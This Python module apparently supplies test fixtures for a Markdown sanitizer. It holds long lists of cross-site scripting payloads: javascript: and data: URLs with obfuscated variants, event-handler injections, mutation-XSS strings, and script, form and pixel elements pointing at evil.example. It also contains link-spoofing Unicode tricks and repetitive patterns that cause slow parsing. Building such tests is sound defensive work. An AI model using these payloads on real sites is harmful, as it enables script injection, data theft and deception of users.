"""Markdown that tries to be more than text: scripts, addresses, overlays, and patterns slow to read."""

from __future__ import annotations

import itertools

_ADDRESSES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
    "\x01javascript:alert(1)",
    "%6Aavascript:alert(1)", "javascript://example.jp/%0Aalert(1)", "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg/onload=alert(1)>", "DATA:text/html,x", "file:///etc/passwd",
    "blob:https://example.jp/x",
    "filesystem:https://example.jp/x", "ftp://example.jp/x", "http://example.jp/x", "about:blank",
    "view-source:x",
    "ms-word:ofe|u|https://example.jp/x", "search-ms:query=x", "tel:110", "sms:110",
    "intent://x#Intent;end",
    "//evil.example/x", "///evil.example/x", "/\\evil.example/x", "\\\\evil.example\\x", "\\/evil.example",
    "/\t/evil.example",
    "/\n/evil.example", "https:evil.example", "https:/evil.example", "https:\\\\evil.example",
    "https://good.example@evil.example/",
    "https://evil.example\u202e/gpj.x", "https://evil.example\u2028x", "／／evil.example",
    "https：//evil.example",
    "\u200bjavascript:alert(1)", "javascript\u200b:alert(1)", "ｊavascript:alert(1)",
    "javascript：alert(1)",
    "mailto:a@b.jp?subject=<script>", "mailto:a@b.jp?bcc=evil@evil.example", "mailto:%0d%0aBcc:x@y.jp",
    "jar:https://x!/",
    'https://x.jp/"onmouseover="alert(1)', "https://x.jp/'onmouseover='alert(1)",
    "https://x.jp/`onmouseover=alert(1)",
    "https://x.jp/><script>alert(1)</script>", "https://x.jp/&quot;onclick=alert(1)",
    "#\"onclick=alert(1)", "/x\"style=\"x",
    "x", "./x", "../x", "?x=1", "x:y", ":", "", " ", "()", "https://", "https://?", "https://#x",
    "mailto:", "#", "/",
]  # fmt: skip

_ADDRESS_FORMS = [
    "[x]({0})", "[x](<{0}>)", '[x]({0} "title")', "<{0}>", "![x]({0})", "[x][r]\n\n[r]: {0}",
    "**[x]({0})**",
    "| [x]({0}) |\n|---|\n| [y]({0}) |", "- [x]({0})\n    - [y](<{0}>)", "[^n]\n\n[^n]: [x]({0})",
]  # fmt: skip

_HANDLERS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus autofocus",
    "ontoggle open",
    "onbegin",
    "formaction",
]

_ELEMENTS = [
    "script", "img", "svg", "math", "iframe", "object", "embed", "form", "input", "button", "textarea",
    "select", "video",
    "audio", "source", "base", "meta", "link", "style", "noscript", "template", "details", "marquee",
    "body", "html", "head",
    "title", "xmp", "plaintext", "listing", "frameset", "isindex", "keygen", "portal", "slot", "dialog",
    "x-custom", "foreignObject",
    "mglyph", "annotation-xml", "animate", "set", "use", "table", "select", "option", "noembed", "a", "p",
    "div", "span", "h1",
]  # fmt: skip

_WHOLE = [
    "<script>alert(1)</script>", "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style>"
    "<path id='</style><img onerror=alert(1) src>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>", "<!--><script>alert(1)</script>-->",
    "<!-- hidden -->", "<?php echo 1 ?>", "<!DOCTYPE html><html onload=alert(1)>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>*{display:none}</style>", "<p style='position:fixed;inset:0;background:white'>x</p>",
    "<div class='button button--danger'>x</div>",
    "<a href='javascript:alert(1)' id='csrf_token' name='cookie'>x</a>",
    "<input name=csrf_token value=x form=consent>", "<form id=consent action=//evil.example>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)>",
    "<embed src=//evil.example>", "<textarea><script>x",
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    "![pixel](https://evil.example/pixel.gif)", "![x][p]\n\n[p]: https://evil.example/p.gif",
    "x\n{: onclick=alert(1) }", "# x {#id onclick=alert(1)}", "[x](/y){: onclick=alert(1)}",
    "```{.python onclick=alert(1)}\nx\n```", "``` \"><script>alert(1)</script>\nx\n```",
    "~~~ html onload=alert(1)\n<script>alert(1)</script>\n~~~", "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>", "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u02c2script\u02c3alert(1)", "＜script＞alert(1)＜/script＞",
    "[^<script>]\n\n[^<script>]: x",
    "[^\"><img src=x onerror=alert(1)>]\n\n[^\"><img src=x onerror=alert(1)>]: x", "[^a b]: x\n\n[^a b]",
    "[^:x:y]\n\n[^:x:y]: z",
    "\x02amp\x03", "\x02wzxhzdk:0\x03", "wzxhzdk:0", "klzzwxh:0000", "zz1337820767766393449zz",
    "qq3936677670287331zz", "\x02klzzwxh:0\x03<script>",
    "[https://good.example](https://evil.example)", "[**https://good.example**](https://evil.example)",
    "[www.good.example](https://evil.example)", "[](https://evil.example)", "[ ](https://evil.example)",
    "[\u200b](https://evil.example)", "[x](https://evil.example \"https://good.example\")",
    "<https://good.example/\u202emoc.live>", "\u202eこの版に同意する\u202c", "左\u2066右\u2069",
    "&#x202e;txet", "&#8238;txet", "&rlm;&lrm;&zwj;&zwnj;&shy;", "\u2028\u2029", "\U000e0041\U000e0042",
    "\ufeff# x", "\x00<script>alert(1)</script>", "\ud800<script>",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|", "|a|\n|:-:|\n|`<script>`|",
    "> <script>\n> alert(1)\n> </script>", "1. <svg/onload=alert(1)>", "x\n: <svg/onload=alert(1)>",
    "# <svg/onload=alert(1)>",
    "<a\nhref=javascript:alert(1)\n>x</a>", "<a/href=javascript:alert(1)>x</a>",
    "<<script>alert(1)//<</script>", "<script/xss>alert(1)</script>", "</p><script>alert(1)</script><p>",
    "<p/onclick=alert(1)>",
    "<a href=\"https://x\" onclick=alert(1)>x</a>",
    "<b>bold</b><i>x</i><u>y</u><font color=white>hidden</font>", "<span hidden>secret</span>",
    "<details><summary>x</summary>hidden</details>", "<del>x</del><ins>y</ins>",
]  # fmt: skip


def payloads() -> list[str]:
    """Every payload once."""
    by_address = [form.format(address) for address in _ADDRESSES for form in _ADDRESS_FORMS]
    by_element = [f"<{element} src=x href=javascript:alert(1) {handler}=alert(1)>x</{element}>"
    for element, handler in zip(_ELEMENTS, itertools.cycle(_HANDLERS), strict=False)]  # fmt: skip
    inside = [
        form.format(whole)
        for whole in _WHOLE[:30]
        for form in ("- {}", "> {}", "**{}**", "[{}](/x)", "|a|\n|-|\n|{}|")
    ]
    return list(dict.fromkeys([*by_address, *by_element, *_WHOLE, *inside]))


SLOW = [
    # Two tokens, repeated: all that were slow or broke the recursion limit without caps, by what repeats.
    *([token] for token in ("[", "](", "[a](", "![", "[^a]", "[[", "*", "_", "**", "__", "***", "`", "``")),
    *([token] for token in ("<", "&", "\\", "-\n", "> ", "- ", "1. ", ": ", "|", "#")),
    *itertools.product(["- ", "1. ", "> ", ": "], ["`", "<", "[", "- ", "](a)"]),
    *itertools.product(["`", "``"], ["\t", " ", "\\"]),
    *itertools.product(["_", "__"], ["**", "***"]),
    *itertools.product(["~~~\n", "```\n"], [": ", "["]),
    *itertools.product(["[", "[^a]"], ["# ", "(", "=", "<a@b"]),
    ["\t>"], [">", "\t"], ["-\n"], ["\n", "---"], ["\n", "="], ["a\n: b\n\n"], ["[^a]: x\n"], ["|-|-\n"],
    ["a|b\n-|-\n"],
]  # fmt: skip
"""Pieces; a text is made of each by repeating it to twenty thousand characters, or to the caps."""


def slow_texts(caps: dict[str, int], length: int) -> list[str]:
    """The slow patterns, each as long as the caps on its characters let it be, and each without any cap."""
    texts = []
    for pieces in SLOW:
        piece = "".join(pieces)
        often = length // len(piece.expandtabs(4))
        allowed = [limit // piece.count(character) for character, limit in caps.items() if character in piece]
        texts.append(piece * often)
        texts.append((piece * min([often, *allowed])).ljust(length, "a")[:length])
    return list(dict.fromkeys(texts))
